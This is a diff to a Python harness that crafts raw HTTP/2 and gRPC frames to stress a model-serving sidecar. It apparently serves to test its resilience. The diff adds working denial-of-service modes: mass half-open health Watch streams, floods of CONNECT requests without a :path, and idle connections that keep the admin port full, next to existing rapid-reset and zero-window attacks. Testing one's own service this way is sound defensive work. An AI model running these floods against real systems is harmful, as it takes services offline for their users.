@@ -14,6 +14,13 @@ server sends unless the mode says otherwise:
   more (attack 6).
 - early_end: 1 connection, calls that start a message whose length prefix is
   over the limit and go on sending (attack 7).
+- health_watch: 64 connections, 1,000 `grpc.health.v1.Health/Watch` calls
+  each on the sidecar's own health service, half-open (the request message
+  sent, the stream never ended) (attack 5).
+- connect: 1 connection, `:method CONNECT` requests without `:path`, 50 every
+  10 ms (attack 9).
+- admin_fill: 64 idle TCP connections to <host:port> (the admin port), each
+  opened again as soon as it is closed (attack 8); `started` counts openings.
 
 Every connection comes from SOURCE (env, 127.0.0.2). Prints, as JSON, the
 calls started, the response HEADERS and the GOAWAY codes
@@ -66,18 +73,46 @@ def generate(request_id: str, tokens: int) -> bytes:
     return b"\x00" + struct.pack(">I", len(message)) + message
 
 
-def headers_block(host: str, port: int) -> bytes:
+def headers_block(host: str, port: int, path: bytes = b"/trtllm.TrtllmService/Generate") -> bytes:
     return b"".join(
         literal(k, v)
         for k, v in [
             (b":method", b"POST"),
             (b":scheme", b"http"),
-            (b":path", b"/trtllm.TrtllmService/Generate"),
+            (b":path", path),
             (b":authority", f"{host}:{port}".encode()),
             (b"content-type", b"application/grpc"),
             (b"te", b"trailers"),
         ]
     )
+
+
+def connect_block(host: str, port: int) -> bytes:
+    """A CONNECT request as RFC 9113 §8.5 has it: `:method` and `:authority`, no `:path`."""
+    return literal(b":method", b"CONNECT") + literal(b":authority", f"{host}:{port}".encode())
+
+
+def admin_fill(host: str, port: int, deadline: float, result: dict, lock) -> None:
+    """Holds one idle connection to the admin port, opening another whenever it is closed."""
+    source = (os.environ.get("SOURCE", "127.0.0.2"), 0)
+    while time.monotonic() < deadline:
+        try:
+            sock = socket.create_connection((host, port), timeout=2, source_address=source)
+        except OSError:
+            time.sleep(0.05)
+            continue
+        with lock:
+            result["started"] += 1
+        sock.settimeout(0.5)
+        while time.monotonic() < deadline:
+            try:
+                if not sock.recv(4096):
+                    break
+            except socket.timeout:
+                continue
+            except OSError:
+                break
+        sock.close()
 
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -110,6 +145,9 @@ def read_for(sock: socket.socket, deadline: float, result: dict, lock: threading
 
 
 def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict, lock) -> None:
+    if mode == "admin_fill":
+        admin_fill(host, port, time.monotonic() + seconds, result, lock)
+        return
     # From an address of its own (SOURCE, 127.0.0.2), as another caller on
     # the pod network: the well-behaved caller beside it is not its address.
     sock = socket.create_connection((host, port), source_address=(os.environ.get("SOURCE", "127.0.0.2"), 0))
@@ -141,7 +179,18 @@ def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict
             out += frame(0x1, 0x4, 1 + 2 * i, block)
             started += 1
         sock.sendall(out)
-    elif mode in ("rapid_reset", "early_end"):
+    elif mode == "health_watch":
+        watch = headers_block(host, port, b"/grpc.health.v1.Health/Watch")
+        empty = b"\x00" + struct.pack(">I", 0)
+        out = PREFACE + settings()
+        for i in range(1000):
+            out += frame(0x1, 0x4, 1 + 2 * i, watch) + frame(0x0, 0, 1 + 2 * i, empty)
+            started += 1
+        try:
+            sock.sendall(out)
+        except OSError:
+            pass
+    elif mode in ("rapid_reset", "early_end", "connect"):
         sock.sendall(PREFACE + settings())
         reader = threading.Thread(target=read_for, args=(sock, deadline, result, lock), daemon=True)
         reader.start()
@@ -156,6 +205,8 @@ def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict
                     if mode == "rapid_reset":
                         out += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, body)
                         out += frame(0x3, 0, stream, struct.pack(">I", 8))
+                    elif mode == "connect":
+                        out += frame(0x1, 0x5, stream, connect_block(host, port))
                     else:
                         out += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, over)
                         out += frame(0x0, 0x1, stream, b"y" * 1000)
@@ -176,7 +227,16 @@ def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict
     sock.close()
 
 
-CONNECTIONS = {"zero_window": 2, "never_read": 1, "rapid_reset": 4, "half_open": 2, "early_end": 1}
+CONNECTIONS = {
+    "zero_window": 2,
+    "never_read": 1,
+    "rapid_reset": 4,
+    "half_open": 2,
+    "early_end": 1,
+    "health_watch": 64,
+    "connect": 1,
+    "admin_fill": 64,
+}
 
 
 def main() -> None:
